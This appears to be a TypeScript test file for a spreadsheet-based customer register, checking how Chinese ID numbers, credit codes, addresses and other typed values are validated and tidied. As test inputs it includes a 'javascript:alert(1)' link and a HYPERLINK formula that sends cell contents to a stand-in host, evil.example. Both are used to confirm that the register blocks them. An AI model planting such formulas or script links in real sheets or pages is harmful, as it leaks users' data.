import { RunningRegister } from '../support/running-register'

const HEADER = [
  ...['姓名', '手机', '微信号', '身份证号', '国家', '省份', '城市', '区县', '标签', '网址'],
  ...['统一社会信用代码', '已退订'],
]
const GOOD = [
  ...['张建国', '13977413962', 'zhangjg_88', '11010519491231002X', '中国', '江苏省', '苏州市', '昆山市'],
  ...['VIP, 老客户', 'https://www.alpur.cn', '91330100799655058B', true],
]
const register = () =>
  new RunningRegister([HEADER, GOOD, ['李娜', '13812345678', ...Array(10).fill('')]], {
    accounts: 'workspace',
  })
/** Types into a cell as text, and lets a while pass, since Google counts reads by the minute. */
function type(run: RunningRegister, number: number, header: string, text: string): void {
  run.colleague.type(run.a1(number, header), text === '' ? '' : `'${text}`)
  run.google.clock.advance('1 minute')
}
const problemsOf = (run: RunningRegister, row: number) => String(run.customers()[row]?.提示 ?? '')

describe('what a colleague types into a cell of each kind', () => {
  it.each([
    ['身份证号', '110105194912310021', '身份证号：最后一位是 1，按前面的数字应为 X。'],
    ['身份证号', '11010519491231002', '身份证号：身份证号应为 18 位，现在是 17 位。'],
    ['身份证号', '110105194902300024', '身份证号：第 7 到 14 位是出生日期'],
    ['统一社会信用代码', '9133O100799655058B', '统一社会信用代码：第 5 位是 O。'],
    ['统一社会信用代码', '91330100799655058C', '统一社会信用代码：第 18 位是 C，按校验规则应为 B。'],
    ['微信号', '张三', '微信号：这不是微信号。'],
    ['网址', 'javascript:alert(1)', '网址：以 javascript: 开头的链接不能从这里打开。'],
    ['国家', 'Atlantis', '国家：选项里没有这个国家或地区。'],
    ['省份', '江东省', '省份：没有这个省份。'],
    ['城市', '杭州市', '城市：江苏省没有这个地方，它属于浙江省。'],
    ['区县', '海淀区', '区县：苏州市没有这个地方，它属于北京市。'],
    ['已退订', '也许', '已退订：既不是“是”也不是“否”。'],
  ])('into %s: %j stays and is marked with the reason (A9 B3)', (header, text, problem) => {
    const run = register()
    type(run, 100001, header, text)
    run.sweep()
    expect(run.customers()[0]?.[header]).toBe(text)
    expect(problemsOf(run, 0)).toContain(problem)
    type(run, 100001, header, '')
    run.sweep()
    expect(problemsOf(run, 0)).toBe('')
  })

  it('is a formula only where a person made it one: the register writes none, whatever the kind', () => {
    const run = register()
    for (const header of HEADER.slice(2, 11)) {
      const text = `=HYPERLINK("https://evil.example/?"&A1;"${header}")`
      type(run, 100002, header, text)
      run.sweep()
      expect(run.customers()[1]?.[header]).toBe(text)
    }
    const shown = run.call('standardise.preview', {})
    expect(shown.values).toBe(0)
  })
})

/** A customer as people write it, and as the register does. */
const MESSY = {
  姓名: '李娜',
  手机: '+86 138 1234 5678',
  微信号: '微信：lina_2026',
  身份证号: '１１０１０５ １９４９１２３１ ００２ｘ',
  国家: 'China',
  省份: '广西',
  城市: '南宁',
  区县: '青秀',
  标签: 'VIP，新品；vip',
  网址: 'WWW.Example.com/路径',
  统一社会信用代码: '9133 0100 7996 5505 8b',
  已退订: '否',
} as const
const TIDY = {
  手机: '13812345678',
  微信号: 'lina_2026',
  身份证号: '11010519491231002X',
  国家: '中国',
  省份: '广西壮族自治区',
  城市: '南宁市',
  区县: '青秀区',
  标签: 'VIP, 新品',
  网址: 'https://www.example.com/路径',
  统一社会信用代码: '91330100799655058B',
  已退订: false,
  提示: '',
} as const

describe('the register’s way of writing', () => {
  it('is brought to what is typed, at once (B4)', () => {
    const run = register()
    for (const [header, text] of Object.entries(MESSY)) type(run, 100002, header, text)
    run.sweep()
    expect(run.customers()[1]).toMatchObject(TIDY)
    expect(run.call('standardise.preview', {}).values).toBe(0)
  })

  it('is brought to a whole list, shown before, once and for all (B4)', () => {
    const run = new RunningRegister([
      HEADER,
      GOOD,
      HEADER.map((header) => MESSY[header as keyof typeof MESSY]),
    ])
    const shown = run.call('standardise.preview', {})
    expect(shown).toMatchObject({ customers: 1, values: Object.keys(TIDY).length - 1 })
    const rules = shown.groups.map(({ rule }) => rule)
    run.call('standardise.apply', { fingerprint: shown.fingerprint, rules, requestId: 'request-kinds' })
    expect(run.customers()[1]).toMatchObject(TIDY)
    expect(run.call('standardise.preview', {}).values).toBe(0)
    run.sweep()
    expect(run.customers()).toHaveLength(2)
  })

  it('lets a tick box stand only where there is an answer, so that new customers come next below (A10)', () => {
    const run = register()
    const save = (name: string, more: Record<string, string>) =>
      run.call('customers.save', { requestId: `request-${name}`, base: {}, mine: { name, ...more } })
    expect(save('王五', { 'opted-out': 'true' })).toMatchObject({ state: 'saved' })
    expect(save('赵六', {})).toMatchObject({ state: 'saved' })
    expect(run.cells()).toHaveLength(5)
    expect(run.customers().map((row) => [row.客户编号, row.已退订])).toEqual([
      [100001, true],
      [100002, ''],
      [100003, true],
      [100004, ''],
    ])
  })
})
